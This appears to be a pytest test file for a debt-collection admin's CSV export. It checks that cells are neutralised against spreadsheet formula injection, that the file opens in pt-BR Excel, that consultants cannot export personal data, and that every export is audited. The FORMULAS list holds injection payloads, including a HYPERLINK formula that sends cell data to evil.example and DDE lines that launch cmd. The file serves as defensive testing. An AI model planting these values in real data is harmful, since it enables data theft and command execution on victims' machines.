"""Exports: no spreadsheet formula from stored text, Excel pt-BR format, personal data for admins only, audited."""

import csv
import io

import pytest
from sqlalchemy import String, Text, select

from admin_views.export import spreadsheet_safe
from models import AuditLog, Creditor, Debtor, Meeting, Negativation, db
from models.debt import Debt
from tests.test_xss import NOT_FREE_TEXT

#: What a consultant (or anyone who can type into a field) could store to attack whoever opens the export.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Clique")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝")


def _cells(response) -> list[list[str]]:
    body = response.get_data().decode("utf-8")
    assert body.startswith("\ufeff"), "Excel needs the UTF-8 BOM to show accents"
    return list(csv.reader(io.StringIO(body[1:], newline=""), delimiter=";"))


def _formula_world(app, world):
    with app.app_context():
        debt = db.session.get(Debt, world.debt_a1.id)
        debt.agency.serasa_enabled = True
        db.session.add(Negativation.for_debt(debt, world.admin_a.id, "RC1"))
        db.session.flush()
        n = 0
        for mapper in db.Model.registry.mappers:
            for row in db.session.scalars(select(mapper.class_)):
                for column in mapper.columns:
                    if isinstance(column.type, String | Text) and column.key not in NOT_FREE_TEXT \
                            and not column.foreign_keys and not column.primary_key:
                        length = getattr(column.type, "length", None)
                        value = FORMULAS[n % len(FORMULAS)]
                        setattr(row, column.key, value[:length] if length else value)
                        n += 1
        db.session.commit()


def test_no_export_cell_is_a_formula(app, client, world, login_as):
    _formula_world(app, world)
    login_as(world.admin_a)
    exported = 0
    for view in app.extensions["admin"][0]._views:
        if not hasattr(view, "_export_columns"):
            continue
        response = client.get(f"/admin/{view.endpoint}/export/csv/")
        assert response.status_code == 200, view.endpoint
        rows = _cells(response)
        assert len(rows) >= 1 + (view.endpoint != "soa_call"), view.endpoint
        for row in rows:
            for cell in row:
                assert not cell.startswith(TRIGGERS), (view.endpoint, cell)
                exported += cell.startswith("'")
    assert exported >= 10  # the hostile values were exported, neutralised


def test_neutralised_cells_keep_their_text_and_plain_numbers_stay_numbers():
    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_safe("\t=1") == "'\t=1"
    assert spreadsheet_safe("-1.234,56") == "-1.234,56"
    assert spreadsheet_safe("+5511999990000") == "+5511999990000"
    assert spreadsheet_safe("-2+3") == "'-2+3"
    assert spreadsheet_safe("Revisão da carteira") == "Revisão da carteira"
    assert spreadsheet_safe(None) == ""


def test_export_opens_in_excel_pt_br(app, client, world, login_as):
    with app.app_context():
        db.session.get(Creditor, world.creditor_a.id).name = "Crédito São João; Ltda"
        db.session.commit()
    login_as(world.admin_a)
    response = client.get("/admin/creditor/export/csv/")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.get_data().startswith("\ufeff".encode())
    rows = _cells(response)
    assert rows[0][0] == "Nome" and len(rows[0]) > 1
    assert [c for r in rows[1:] for c in r if "São João" in c] == ["Crédito São João; Ltda"]


@pytest.mark.parametrize("endpoint", ["debtor", "debt", "negotiation", "finance_negotiation", "negativation",
                                      "meeting", "creditor"])
def test_consultants_cannot_export_personal_data(app, client, world, login_as, endpoint):
    with app.app_context():
        db.session.get(Creditor, world.creditor_a.id).agency.serasa_enabled = True
        db.session.commit()
    login_as(world.cons_a1)
    assert client.get(f"/admin/{endpoint}/").status_code == 200
    assert "/export/csv/" not in client.get(f"/admin/{endpoint}/").text
    assert client.get(f"/admin/{endpoint}/export/csv/").status_code == 403
    with app.app_context():
        assert not db.session.scalars(select(AuditLog).where(AuditLog.action == "export")).all()


def test_every_export_is_audited_with_screen_filter_and_rows(app, client, world, login_as):
    login_as(world.admin_a)
    with app.app_context():
        debtors = db.session.scalars(select(Debtor).where(Debtor.agency_id == world.a.id)).all()
        city_count = len(debtors)
    listing = client.get("/admin/debtor/").text
    assert "/admin/debtor/export/csv/" in listing
    view = next(v for v in app.extensions["admin"][0]._views if v.endpoint == "debtor")
    key = next(k for k, (_, flt) in view._filter_args.items()
               if flt.column.key == "city" and type(flt).__name__ == "FilterEqual")
    response = client.get(f"/admin/debtor/export/csv/?flt1_{key}=São Paulo&search=Devedor")
    assert response.status_code == 200
    assert len(_cells(response)) - 1 == city_count
    with app.app_context():
        entry = db.session.scalars(select(AuditLog).where(AuditLog.action == "export")).one()
        assert entry.user_id == world.admin_a.id and entry.agency_id == world.a.id and entry.target == "debtor"
        assert "Devedores" in entry.details and "busca: Devedor" in entry.details
        assert f"linhas: {city_count}" in entry.details
        assert "São Paulo" in entry.details
    audit = client.get("/admin/audit/?search=export").text
    assert "export" in audit and "debtor" in audit
    with app.app_context():
        assert db.session.scalar(select(Meeting.id)) is not None  # the world is intact
